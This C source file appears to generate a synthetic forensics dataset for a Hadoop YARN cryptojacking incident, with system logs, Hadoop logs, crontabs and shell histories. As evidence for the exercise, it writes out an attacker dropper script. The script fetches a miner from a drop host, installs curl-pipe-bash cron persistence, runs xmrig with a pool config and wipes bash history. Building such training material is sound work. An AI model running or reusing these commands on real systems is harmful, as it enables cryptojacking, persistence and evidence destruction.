/* SPDX-License-Identifier: Apache-2.0 */
/*
 * logs.c - what each server's disk says: /var/log/syslog (cron runs, systemd, chrony) and
 * /var/log/auth.log (sshd, sudo, cron PAM sessions) in Debian's traditional rsyslog format,
 * the ResourceManager and NodeManager logs (log4j), the yarn user's crontab, the xmrig
 * config, the container launch scripts, the ResourceManager state store entries and the
 * shell histories (yarn's emptied by the drop script, alice's with HISTTIMEFORMAT stamps).
 */
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "lines.h"
#include "notes.h"
#include "out.h"
#include "rng.h"
#include "timefmt.h"
#include "ym.h"

/* A log file under construction (lines.h); a line an attack note cites carries a tag, the
 * index + 1 of its note text here. */
struct logf {
    struct lines ls;
    const char *notes[32];
    int nnotes;
};

static void add(struct logf *f, int64_t t_ms, const char *note, const char *fmt, ...)
    __attribute__((format(printf, 4, 5)));
static void add(struct logf *f, int64_t t_ms, const char *note, const char *fmt, ...)
{
    char buf[2048];
    va_list ap;
    int tag = 0;
    va_start(ap, fmt);
    vsnprintf(buf, sizeof buf, fmt, ap);
    va_end(ap);
    if (note) {
        if (f->nnotes == 32)
            die("too many notes in one log");
        f->notes[f->nnotes++] = note;
        tag = f->nnotes;
    }
    lines_add(&f->ls, t_ms, tag, "%s", buf);
}

/* Sort, write ROOT/rel, cite the tagged lines; returns the size written. */
static size_t flush(struct ym_world *yw, struct logf *f, const char *rel)
{
    struct sb b = {0};
    lines_render(&f->ls, &b);
    for (size_t i = 0; i < f->ls.n; i++) {
        const struct line *ln = &f->ls.v[i];
        if (ln->tag)
            note(ln->t * 1000000, rel, ln, "%s", f->notes[ln->tag - 1]);
    }
    out_file(rel, b.p ? b.p : "", b.n);
    yw->n_log += f->ls.n;
    lines_free(&f->ls);
    f->nnotes = 0;
    size_t n = b.n;
    free(b.p);
    return n;
}

/* A syslog line "Sep  8 02:17:01 host prog[pid]: msg" at t seconds. */
#define SYS(f, t, note, host, prog, pid, ...) \
    do { \
        char ts_[TF_LEN], m_[1600]; \
        snprintf(m_, sizeof m_, __VA_ARGS__); \
        add(f, (int64_t)(t) * 1000, note, "%s %s %s[%d]: %s", tf_syslog(ts_, t), host, prog, \
            pid, m_); \
    } while (0)

/* A cron job; jobs that may start in the same second get distinct PIDs by `nth`. */
static void cron_job(const struct ym_world *yw, struct logf *sys, struct logf *auth,
                     const char *host, int64_t t, int nth, const char *user, int uid,
                     const char *cmd, const char *note)
{
    int pid = ym_pid(yw, t) + nth;
    SYS(auth, t, NULL, host, "CRON", pid,
        "pam_unix(cron:session): session opened for user %s(uid=%d) by (uid=0)", user, uid);
    SYS(sys, t, note, host, "CRON", pid, "(%s) CMD (%s)", user, cmd);
    SYS(auth, t + (uid ? 1 : 0), NULL, host, "CRON", pid,
        "pam_unix(cron:session): session closed for user %s", user);
}

/* An SSH session with sudo commands at the given offsets (seconds after login). */
static void ssh_session(const struct ym_world *yw, struct logf *auth, struct logf *sys,
                        const char *host, int64_t t, const char *user, int uid, const char *ip,
                        int session, const char *const *cmds, const int *at,
                        const char *const *notes, int ncmd, int64_t dur)
{
    char fp[44];
    int pid = ym_pid(yw, t);
    int port = (int)rng_range(40000, 60999);
    rng_chars(fp, 43, RNG_B64);
    SYS(auth, t, NULL, host, "sshd", pid, "Accepted publickey for %s from %s port %d ssh2: "
        "ED25519 SHA256:%s", user, ip, port, fp);
    SYS(auth, t, NULL, host, "sshd", pid, "pam_unix(sshd:session): session opened for user "
        "%s(uid=%d) by (uid=0)", user, uid);
    SYS(auth, t, NULL, host, "systemd-logind", 498, "New session %d of user %s.", session, user);
    SYS(sys, t, NULL, host, "systemd", 1, "Started session-%d.scope - Session %d of User %s.",
        session, session, user);
    for (int i = 0; i < ncmd; i++) {
        int64_t tc = t + at[i];
        int sp = ym_pid(yw, tc);
        SYS(auth, tc, notes ? notes[i] : NULL, host, "sudo", sp,
            "   %s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=%s", user, user, cmds[i]);
        SYS(auth, tc, NULL, host, "sudo", sp, "pam_unix(sudo:session): session opened for user "
            "root(uid=0) by %s(uid=%d)", user, uid);
        SYS(auth, tc + 1, NULL, host, "sudo", sp,
            "pam_unix(sudo:session): session closed for user root");
    }
    int64_t te = t + dur;
    SYS(auth, te, NULL, host, "sshd", pid, "Received disconnect from %s port %d:11: "
        "disconnected by user", ip, port);
    SYS(auth, te, NULL, host, "sshd", pid, "Disconnected from user %s %s port %d", user, ip,
        port);
    SYS(auth, te, NULL, host, "sshd", pid, "pam_unix(sshd:session): session closed for user %s",
        user);
    SYS(auth, te, NULL, host, "systemd-logind", 498, "Session %d logged out. Waiting for "
        "processes to exit.", session);
    SYS(auth, te, NULL, host, "systemd-logind", 498, "Removed session %d.", session);
    SYS(sys, te, NULL, host, "systemd", 1, "session-%d.scope: Deactivated successfully.",
        session);
}

static void host_syslog_auth(struct ym_world *yw, int hi)
{
    struct ym_host *h = &yw->host[hi];
    struct logf sys, auth;
    memset(&sys, 0, sizeof sys);
    memset(&auth, 0, sizeof auth);
    char rel[200];
    int64_t end = h->collected;
    const char *hn = h->name;
    for (int64_t t = yw->day0; t < end; t += 600 / yw->scale) {
        cron_job(yw, &sys, &auth, hn, t + 1, 0, "root", 0,
                 "command -v debian-sa1 > /dev/null && debian-sa1 1 1", NULL);
    }
    for (int hr = 0; hr < 24; hr++) {
        int64_t t = ym_at(yw, hr, 17, 1);
        if (t < end)
            cron_job(yw, &sys, &auth, hn, t, 0, "root", 0,
                     "   cd / && run-parts --report /etc/cron.hourly", NULL);
        t = ym_at(yw, hr, 30, 1);
        if (t < end && hr % 2 == 0)
            cron_job(yw, &sys, &auth, hn, t, 1, "hdfs", 997,
                     YM_HADOOP "/bin/hdfs dfsadmin -report > /var/tmp/hdfs-report.txt 2>&1",
                     NULL);
    }
    for (int64_t t = ym_at(yw, 0, 3, 12); t < end; t += 3 * 3600 + 611) {
        SYS(&sys, t, NULL, hn, "chronyd", 412, "Selected source 185.125.190.57 "
            "(ntp.ubuntu.com)");
    }
    int64_t ta = ym_at(yw, 6, 31, 2);
    SYS(&sys, ta, NULL, hn, "systemd", 1, "Starting apt-daily.service - Daily apt download "
        "activities...");
    SYS(&sys, ta + 9, NULL, hn, "systemd", 1, "apt-daily.service: Deactivated successfully.");
    SYS(&sys, ta + 9, NULL, hn, "systemd", 1, "Finished apt-daily.service - Daily apt download "
        "activities.");
    SYS(&sys, ym_at(yw, 0, 0, 1), NULL, hn, "systemd", 1, "Starting logrotate.service - "
        "Rotate log files...");
    SYS(&sys, ym_at(yw, 0, 0, 2), NULL, hn, "systemd", 1, "logrotate.service: Deactivated "
        "successfully.");
    /* The yarn crontab: every 5 minutes from the first quarter after installation. */
    int64_t first = h->miner_start - (h->miner_start - yw->day0) % 300 + 300;
    for (int64_t t = first; t < end; t += 300) {
        const char *note = NULL;
        if (t == first)
            note = hi == YM_MASTER ? "first run of the yarn crontab on hadoop-master"
                                   : "first run of the yarn crontab on hadoop-worker-1";
        if (h->restart && t == h->restart - 1)
            note = "cron runs the yarn entry after the kill: pgrep finds no kthreaddk, "
                   "curl | bash restarts the miner";
        cron_job(yw, &sys, &auth, hn, t + 1, 2, "yarn", 998,
                 "(pgrep -x kthreaddk || curl -fsSL http://" YM_DROP_IP "/y.sh | bash) "
                 ">/dev/null 2>&1", note);
    }
    /* Ansible every 4 hours, alice in the morning, the response on the master. */
    for (int k = 0; k * 4 * 3600 + 120 < end - yw->day0; k++) {
        static const char *const c[] = {"/bin/sh -c echo BECOME-SUCCESS-ansible ; "
                                        "/usr/bin/python3 /tmp/.ansible/AnsiballZ_apt.py"};
        static const int at[] = {4};
        ssh_session(yw, &auth, &sys, hn, yw->day0 + k * 4 * 3600 + 120 + hi * 7, "deploy",
                    1002, "10.0.9.40", 40 + k, c, at, NULL, 1, 19);
    }
    if (hi == YM_WORKER) {
        static const char *const c[] = {"/usr/bin/systemctl status hadoop-hdfs-datanode"};
        static const int at[] = {71};
        ssh_session(yw, &auth, &sys, hn, ym_at(yw, 8, 20, 44), "alice", 1001, YM_ADMIN_IP, 43,
                    c, at, NULL, 1, 402);
    } else {
        static const char *const c1[] = {"/usr/bin/systemctl status "
                                         "hadoop-yarn-resourcemanager"};
        static const int at1[] = {38};
        ssh_session(yw, &auth, &sys, hn, ym_at(yw, 8, 12, 31), "alice", 1001, YM_ADMIN_IP, 43,
                    c1, at1, NULL, 1, 1004);
        char kill[64];
        snprintf(kill, sizeof kill, "/usr/bin/kill -9 %d", h->miner_pid);
        const char *c2[] = {"/usr/bin/top -b -n 1", kill};
        const int at2[] = {52, (int)(yw->kill - ym_at(yw, 9, 38, 20))};
        const char *n2[] = {NULL, "alice kills the miner on hadoop-master (sudo kill -9 of "
                            "the yarn process at 700% CPU); cron restarts it at 09:45"};
        ssh_session(yw, &auth, &sys, hn, ym_at(yw, 9, 38, 20), "alice", 1001, YM_ADMIN_IP, 44,
                    c2, at2, n2, 2, 640);
        static const char *const c3[] = {"/usr/local/bin/mac-robber /etc /home /opt /root /tmp "
                                         "/usr /var"};
        const int at3[] = {(int)(h->collected - ym_at(yw, 10, 0, 49))};
        ssh_session(yw, &auth, &sys, hn, ym_at(yw, 10, 0, 49), "ir-bob", 1003, YM_ADMIN_IP, 45,
                    c3, at3, NULL, 1, 90);
    }
    snprintf(rel, sizeof rel, "hosts/%s/fs/var/log/syslog", hn);
    h->size_syslog = flush(yw, &sys, rel);
    snprintf(rel, sizeof rel, "hosts/%s/fs/var/log/auth.log", hn);
    h->size_auth = flush(yw, &auth, rel);
}

/* log4j "2026-09-08 02:13:43,512 INFO <class>: <msg>" */
#define L4J(f, t_ms, note, cls, ...) \
    do { \
        char ts_[TF_LEN], m_[1600]; \
        snprintf(m_, sizeof m_, __VA_ARGS__); \
        add(f, t_ms, note, "%s INFO %s: %s", tf_log_ms(ts_, t_ms, ','), cls, m_); \
    } while (0)

#define RM "org.apache.hadoop.yarn.server.resourcemanager."
#define NM "org.apache.hadoop.yarn.server.nodemanager."

/* One application's life in the RM log and its AM container's in the NM log of `node`. */
static void app_logs(struct ym_world *yw, struct logf *rm, struct logf *nm, uint32_t seq,
                     const char *user, const char *ip, const char *name, int node, int64_t ms,
                     int64_t run_s, int attacker)
{
    char app[64], c[64];
    ym_app(app, sizeof app, yw, seq);
    ym_container(c, sizeof c, yw, seq, 1);
    const char *nn = yw->host[node].name;
    L4J(rm, ms, attacker ? (node == YM_WORKER ? "ResourceManager audit: Submit Application "
        "Request by dr.who from " YM_SUBMIT_IP " (first attacker application)"
        : "ResourceManager audit: second Submit Application Request by dr.who from "
        YM_SUBMIT_IP) : NULL, RM "RMAuditLogger", "USER=%s\tIP=%s\tOPERATION=Submit Application "
        "Request\tTARGET=ClientRMService\tRESULT=SUCCESS\tAPPID=%s\tQUEUENAME=%s", user, ip, app,
        attacker ? "default" : "etl");
    L4J(rm, ms, NULL, RM "ClientRMService", "Application with id %u submitted by user %s", seq,
        user);
    L4J(rm, ms + 1, NULL, RM "rmapp.RMAppImpl", "Storing application with id %s", app);
    L4J(rm, ms + 2, NULL, RM "rmapp.RMAppImpl", "%s State change from NEW_SAVING to SUBMITTED "
        "on event = APP_NEW_SAVED", app);
    L4J(rm, ms + 4, NULL, RM "rmapp.RMAppImpl", "%s State change from SUBMITTED to ACCEPTED on "
        "event = APP_ACCEPTED", app);
    L4J(rm, ms + 1100, NULL, RM "rmcontainer.RMContainerImpl", "%s Container Transitioned from "
        "NEW to ALLOCATED", c);
    L4J(rm, ms + 1102, NULL, RM "scheduler.capacity.CapacityScheduler", "Allocation proposal "
        "accepted: %s on %s:45454 for application %s (%s)", c, nn, app, name);
    int64_t nms = ms + 1900;
    L4J(nm, nms, attacker ? (node == YM_WORKER ? "NodeManager on hadoop-worker-1 starts the "
        "attacker's container for user dr.who" : "NodeManager on hadoop-master starts the "
        "attacker's container for user dr.who") : NULL, NM "containermanager.ContainerManagerImpl",
        "Start request for %s by user %s", c, user);
    L4J(nm, nms + 3, NULL, NM "containermanager.application.ApplicationImpl", "Application %s "
        "transitioned from NEW to INITING", app);
    L4J(nm, nms + 40, NULL, NM "containermanager.container.ContainerImpl", "Container %s "
        "transitioned from NEW to LOCALIZING", c);
    L4J(nm, nms + 310, NULL, NM "containermanager.container.ContainerImpl", "Container %s "
        "transitioned from LOCALIZING to SCHEDULED", c);
    L4J(nm, nms + 312, NULL, NM "containermanager.container.ContainerImpl", "Container %s "
        "transitioned from SCHEDULED to RUNNING", c);
    L4J(nm, nms + 330, attacker ? "the container runs launch_container.sh, whose command is `"
        YM_CMD "`" : NULL, NM "containermanager.launcher.ContainerLaunch",
        "launchContainer: [bash, " YM_NM_LOCAL "/usercache/%s/appcache/%s/%s/"
        "default_container_executor.sh]", user, app, c);
    int64_t end = nms + run_s * 1000;
    L4J(nm, end, NULL, NM "containermanager.launcher.ContainerLaunch", "Container %s succeeded",
        c);
    L4J(nm, end + 2, NULL, NM "containermanager.container.ContainerImpl", "Container %s "
        "transitioned from RUNNING to EXITED_WITH_SUCCESS", c);
    L4J(nm, end + 9, NULL, NM "containermanager.launcher.ContainerCleanup", "Cleaning up "
        "container %s", c);
    L4J(rm, end + 700, NULL, RM "rmapp.RMAppImpl", attacker ? "%s State change from ACCEPTED to "
        "FAILED on event = ATTEMPT_FAILED" : "%s State change from RUNNING to FINISHED on event "
        "= ATTEMPT_FINISHED", app);
    L4J(rm, end + 702, NULL, RM "RMAuditLogger", "USER=%s\tOPERATION=Application Finished - "
        "%s\tTARGET=RMAppManager\tRESULT=%s\tAPPID=%s", user, attacker ? "Failed" : "Succeeded",
        attacker ? "FAILURE" : "SUCCESS", app);
}

static void hadoop_logs(struct ym_world *yw)
{
    struct logf rm, nm[YM_NHOSTS];
    memset(&rm, 0, sizeof rm);
    memset(nm, 0, sizeof nm);
    char rel[200];
    for (int h = 0; h < 24; h++) {
        int node = h % 2 ? YM_MASTER : YM_WORKER;
        int64_t t = ym_at(yw, h, 5, 1);
        char name[40];
        snprintf(name, sizeof name, "etl-orders-hourly-%02d", h);
        int64_t ms = t * 1000 + rng_range(0, 900);
        int64_t run = rng_range(280, 500);
        if (t < yw->host[YM_MASTER].collected)
            app_logs(yw, &rm, &nm[node], ym_etl_seq(yw, h), "etl", YM_AIRFLOW_IP, name, node,
                     ms, run, 0);
    }
    for (int i = 0; i < YM_NHOSTS; i++) {
        struct ym_host *h = &yw->host[i];
        /* Accepted a second after the POST (see net.c), started 1.9 s later (h->launch). */
        app_logs(yw, &rm, &nm[i], h->app_seq, "dr.who", YM_SUBMIT_IP, "get-shell", i,
                 (h->launch - 2) * 1000 + 200, 5, 1);
        for (int64_t t = yw->day0 + 17; t < h->collected; t += 3600 / yw->scale) {
            L4J(&nm[i], t * 1000, NULL, NM "containermanager.monitor.ContainersMonitorImpl",
                "Memory usage of ProcessTree for all containers: %d MB of %d MB physical memory "
                "used", (int)rng_range(200, 3000), 16384);
        }
    }
    snprintf(rel, sizeof rel, "hosts/hadoop-master/fs" YM_HADOOP
             "/logs/yarn-yarn-resourcemanager-hadoop-master.log");
    yw->host[YM_MASTER].size_rm = flush(yw, &rm, rel);
    for (int i = 0; i < YM_NHOSTS; i++) {
        snprintf(rel, sizeof rel, "hosts/%s/fs" YM_HADOOP "/logs/yarn-yarn-nodemanager-%s.log",
                 yw->host[i].name, yw->host[i].name);
        yw->host[i].size_nm = flush(yw, &nm[i], rel);
    }
}

void ym_script(struct sb *b, const struct ym_world *yw)
{
    sb_s(b, "#!/bin/bash\n"
         "pkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kinsing\n"
         "mkdir -p " YM_DROP_DIR " && cd " YM_DROP_DIR "\n"
         "curl -fsSL http://" YM_DROP_IP "/xm -o " YM_MINER " && chmod +x " YM_MINER "\n"
         "cat > config.json <<EOF\n");
    ym_xmrig_config(b, yw, -1);
    sb_s(b, "EOF\n"
         "(crontab -l 2>/dev/null | grep -v y.sh; echo \"" YM_CRON_LINE "\") | crontab -\n"
         "nohup ./" YM_MINER " -c config.json >/dev/null 2>&1 &\n"
         "sleep 3; rm -f " YM_MINER "\n"
         "cat /dev/null > ~/.bash_history; history -c\n");
}

void ym_xmrig_config(struct sb *b, const struct ym_world *yw, int h)
{
    sb_f(b, "{\n    \"autosave\": true,\n    \"background\": true,\n    \"donate-level\": 0,\n"
         "    \"cpu\": {\n        \"enabled\": true,\n        \"huge-pages\": true,\n"
         "        \"max-threads-hint\": 100\n    },\n    \"pools\": [\n        {\n"
         "            \"algo\": \"rx/0\",\n            \"coin\": \"monero\",\n"
         "            \"url\": \"" YM_POOL_URL "\",\n"
         "            \"user\": \"%s\",\n            \"pass\": \"x\",\n"
         "            \"rig-id\": %s%s%s,\n            \"keepalive\": true,\n"
         "            \"tls\": false\n        }\n    ],\n    \"print-time\": 60\n}\n",
         yw->wallet, h < 0 ? "\"$(hostname)\"" : "\"", h < 0 ? "" : yw->host[h].name,
         h < 0 ? "" : "\"");
}

void ym_launch_script(struct sb *b, const struct ym_world *yw, int h)
{
    char app[64], c[64], dir[256], logd[256];
    ym_app(app, sizeof app, yw, yw->host[h].app_seq);
    ym_container(c, sizeof c, yw, yw->host[h].app_seq, 1);
    snprintf(dir, sizeof dir, YM_NM_LOCAL "/usercache/dr.who/appcache/%s/%s", app, c);
    snprintf(logd, sizeof logd, YM_HADOOP "/logs/userlogs/%s/%s", app, c);
    sb_f(b, "#!/bin/bash\n\nset -o pipefail -e\nexport PRELAUNCH_OUT=\"%s/prelaunch.out\"\n"
         "exec >\"${PRELAUNCH_OUT}\"\nexport PRELAUNCH_ERR=\"%s/prelaunch.err\"\n"
         "exec 2>\"${PRELAUNCH_ERR}\"\necho \"Setting up env variables\"\n"
         "export JAVA_HOME=${JAVA_HOME:-\"/usr/lib/jvm/java-11-openjdk-amd64\"}\n"
         "export HADOOP_COMMON_HOME=${HADOOP_COMMON_HOME:-\"" YM_HADOOP "\"}\n"
         "export HADOOP_HDFS_HOME=${HADOOP_HDFS_HOME:-\"" YM_HADOOP "\"}\n"
         "export HADOOP_CONF_DIR=${HADOOP_CONF_DIR:-\"" YM_HADOOP "/etc/hadoop\"}\n"
         "export HADOOP_YARN_HOME=${HADOOP_YARN_HOME:-\"" YM_HADOOP "\"}\n"
         "export HADOOP_HOME=${HADOOP_HOME:-\"" YM_HADOOP "\"}\n"
         "export PATH=${PATH:-\"/usr/local/bin:/usr/bin:/bin\"}\n"
         "export LOGNAME=\"dr.who\"\nexport USER=\"dr.who\"\nexport HOME=\"/home/\"\n"
         "export NM_HOST=\"%s\"\nexport NM_PORT=\"45454\"\nexport NM_HTTP_PORT=\"8042\"\n"
         "export CONTAINER_ID=\"%s\"\nexport PWD=\"%s\"\n"
         "export LOCAL_DIRS=\"" YM_NM_LOCAL "/usercache/dr.who/appcache/%s\"\n"
         "export LOG_DIRS=\"%s\"\nexport APP_SUBMIT_TIME_ENV=\"%lld\"\n"
         "export MALLOC_ARENA_MAX=\"4\"\n"
         "echo \"Setting up job resources\"\necho \"Copying debugging information\"\n"
         "# Creating copy of launch script\ncp \"launch_container.sh\" \"%s/launch_container.sh\""
         "\nchmod 640 \"%s/launch_container.sh\"\n# Determining directory contents\n"
         "echo \"ls -l:\" 1>\"%s/directory.info\"\nls -l 1>>\"%s/directory.info\"\n"
         "echo \"Launching container\"\nexec /bin/bash -c \"" YM_CMD "\"\n",
         logd, logd, yw->host[h].name, c, dir, app, logd,
         (long long)(yw->host[h].launch - 2) * 1000, logd, logd, logd, logd);
}

/* A crontab as `crontab -` installs it on Debian. */
static void crontab(struct sb *b, int64_t t)
{
    static const char *const wd[] = {"Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"};
    static const char *const mon[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug",
                                      "Sep", "Oct", "Nov", "Dec"};
    struct tf_ymd d = tf_split(t);
    sb_f(b, "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n"
         "# (- installed on %s %s %2u %02u:%02u:%02u %d)\n"
         "# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n"
         YM_CRON_LINE "\n", wd[d.wday % 7], mon[(d.mo + 11) % 12], d.d, d.h, d.mi, d.s, d.y);
}

/* A ResourceManager state store entry (ApplicationStateDataProto): protobuf fields whose
 * strings a responder finds with `strings`. */
static void rmstore(struct sb *b, const char *app, const char *name, const char *user,
                    const char *queue, const char *cmd, int64_t submit_ms)
{
    const char *f[] = {app, name, queue, user, cmd, "YARN"};
    sb_add(b, "\x08", 1);
    for (int i = 0; i < 8; i++) {
        unsigned char c = (unsigned char)(0x80 | ((submit_ms >> (7 * i)) & 0x7f));
        if (i == 7)
            c &= 0x7f;
        sb_add(b, (const char *)&c, 1);
    }
    for (int i = 0; i < 6; i++) {
        size_t l = strlen(f[i]);
        unsigned char tag = (unsigned char)(((i + 2) << 3) | 2);
        unsigned char len[2] = {(unsigned char)(0x80 | (l & 0x7f)), (unsigned char)(l >> 7)};
        sb_add(b, (const char *)&tag, 1);
        sb_add(b, (const char *)len, 2);
        sb_add(b, f[i], l);
    }
}

static void collected_files(struct ym_world *yw)
{
    char rel[400], app[64], c[64];
    for (int i = 0; i < YM_NHOSTS; i++) {
        struct ym_host *h = &yw->host[i];
        struct sb b = {0};
        int64_t cron_t = h->restart ? h->restart + 3 : h->miner_start;
        crontab(&b, cron_t);
        snprintf(rel, sizeof rel, "hosts/%s/fs/var/spool/cron/crontabs/yarn", h->name);
        out_file_mode(rel, b.p, b.n, 0600);
        h->size_cron = b.n;
        sb_reset(&b);
        ym_xmrig_config(&b, yw, i);
        snprintf(rel, sizeof rel, "hosts/%s/fs" YM_DROP_DIR "/config.json", h->name);
        out_file(rel, b.p, b.n);
        h->size_conf = b.n;
        sb_reset(&b);
        ym_launch_script(&b, yw, i);
        ym_app(app, sizeof app, yw, h->app_seq);
        ym_container(c, sizeof c, yw, h->app_seq, 1);
        snprintf(rel, sizeof rel, "hosts/%s/fs" YM_NM_LOCAL "/usercache/dr.who/appcache/%s/%s/"
                 "launch_container.sh", h->name, app, c);
        out_file_mode(rel, b.p, b.n, 0700);
        h->size_launch = b.n;
        snprintf(rel, sizeof rel, "hosts/%s/fs" YM_YARN_HOME "/.bash_history", h->name);
        out_file(rel, "", 0);
        sb_reset(&b);
        /* alice's history, with HISTTIMEFORMAT set in her .bashrc */
        if (i == YM_MASTER) {
            sb_f(&b, "#%lld\nyarn application -list\n#%lld\ndf -h /data\n#%lld\nexit\n"
                 "#%lld\ntop -b -n 1 | head -15\n#%lld\nps -o pid,user,pcpu,etime,cmd -p %d\n"
                 "#%lld\nls -l /proc/%d/exe\n#%lld\nsudo kill -9 %d\n#%lld\nexit\n",
                 (long long)ym_at(yw, 8, 12, 58), (long long)ym_at(yw, 8, 14, 10),
                 (long long)ym_at(yw, 8, 29, 2), (long long)ym_at(yw, 9, 39, 12),
                 (long long)ym_at(yw, 9, 39, 40), h->miner_pid,
                 (long long)ym_at(yw, 9, 39, 58), h->miner_pid, (long long)yw->kill,
                 h->miner_pid, (long long)ym_at(yw, 9, 48, 59));
        } else {
            sb_f(&b, "#%lld\nhdfs dfsadmin -report | head -20\n#%lld\ndf -h\n#%lld\nexit\n",
                 (long long)ym_at(yw, 8, 21, 30), (long long)ym_at(yw, 8, 23, 2),
                 (long long)ym_at(yw, 8, 27, 25));
        }
        snprintf(rel, sizeof rel, "hosts/%s/fs/home/alice/.bash_history", h->name);
        out_file_mode(rel, b.p, b.n, 0600);
        h->size_alice = b.n;
        free(b.p);
    }
    /* The master's RM state store: the day's applications. */
    for (int k = 0; k < 26; k++) {
        struct sb b = {0};
        uint32_t seq = yw->first_seq + (uint32_t)k;
        int hi = seq == yw->host[YM_WORKER].app_seq ? YM_WORKER
                 : seq == yw->host[YM_MASTER].app_seq ? YM_MASTER : -1;
        int hour = k < 3 ? k : k - 2;
        int64_t t = hi >= 0 ? yw->host[hi].launch - 3 : ym_at(yw, hour, 5, 1);
        if (t >= yw->host[YM_MASTER].collected)
            continue;
        char name[40];
        snprintf(name, sizeof name, "etl-orders-hourly-%02d", hour);
        ym_app(app, sizeof app, yw, seq);
        rmstore(&b, app, hi >= 0 ? "get-shell" : name, hi >= 0 ? "dr.who" : "etl",
                hi >= 0 ? "default" : "etl", hi >= 0 ? YM_CMD : YM_MR_CMD, t * 1000);
        snprintf(rel, sizeof rel, "hosts/hadoop-master/fs/tmp/hadoop-yarn/yarn/system/rmstore/"
                 "FSRMStateRoot/RMAppRoot/%s/%s", app, app);
        out_file(rel, b.p, b.n);
        free(b.p);
    }
}

void ym_logs(struct ym_world *yw)
{
    for (int i = 0; i < YM_NHOSTS; i++)
        host_syslog_auth(yw, i);
    hadoop_logs(yw);
    collected_files(yw);
}
